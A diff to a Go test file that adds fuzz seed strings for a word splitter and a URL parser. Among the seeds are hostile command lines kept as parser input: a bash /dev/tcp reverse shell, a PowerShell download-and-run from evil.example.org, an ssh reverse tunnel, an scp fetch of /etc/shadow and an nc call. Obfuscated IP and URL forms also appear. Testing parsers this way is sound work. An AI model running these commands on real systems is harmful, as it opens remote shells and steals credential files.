@@ -188,7 +188,12 @@ func TestWords(t *testing.T) {
 // FuzzWords: whatever the line, it ends, hands out parts of the line, and finds
 // an address that stands between spaces.
 func FuzzWords(f *testing.F) {
-	for _, s := range []string{"curl http://a.b/c?d=http://e", "u@[::1]:22", "a=b,c;d", "://", "http://", "[", "@", "/dev/tcp/"} {
+	for _, s := range []string{
+		"curl http://a.b/c?d=http://e", "u@[::1]:22", "a=b,c;d", "://", "http://", "[", "@", "/dev/tcp/",
+		`bash -c "exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5"`, `powershell -c IEX(New-Object Net.WebClient).DownloadString('HTTP://evil.example.org:8080/a.ps1')`,
+		"ssh -R 80:localhost:22 user@evil.example.org -p 2222", "git clone ssh://git@[2001:db8::7]:22/x.git", "wget -qO- https://a.example/?u=https%3A%2F%2Fb.example",
+		"scp root@evil.example.org:/etc/shadow .", "nc 198.51.100.9:443", "x=http://a.example,http://b.example;c.example|d.example", "\xff\xfehttp://\x00.example", "http://[::ffff:198.51.100.7%eth0]/",
+	} {
 		f.Add([]byte(s))
 	}
 	f.Fuzz(func(t *testing.T, line []byte) {
@@ -211,7 +216,12 @@ func FuzzWords(f *testing.F) {
 
 // FuzzURL: a URL's key read again is the same key.
 func FuzzURL(f *testing.F) {
-	for _, s := range []string{"http://a.org", "HTTPS://u:p@A.org.:443/%7e%2F?x#y", "ftp://[::1]:21/", "x://1.2.3.4:99999/", "http://a.org\\b"} {
+	for _, s := range []string{
+		"http://a.org", "HTTPS://u:p@A.org.:443/%7e%2F?x#y", "ftp://[::1]:21/", "x://1.2.3.4:99999/", "http://a.org\\b",
+		"http://3279880203/blah", "http://0x7f.1/", "http://017.0.0.1/", "http://[64:ff9b::c633:6407]:8080/", "http://[fe80::1%25eth0]/", "http://%31%36%38%2e%31%38%38%2e%39%39%2e%32%36/%2E",
+		"http://bücher.example/ä?ö", "http://xn--bcher-kva.example/", "http://a.org/a/../b/./c//d/..", "http://a.org/%25%32%35%25", "http://a.org/a%00b\r\n\tc", "http://a..b...org./x",
+		"wss://a.org:443/?a=b?c#d", "http://u@v@a.org:0080/", "http://a.org:/", "http://a.org?q", "http://a.org/\xff\x80", "http://a.org/%%%2",
+	} {
 		f.Add([]byte(s))
 	}
 	f.Fuzz(func(t *testing.T, text []byte) {
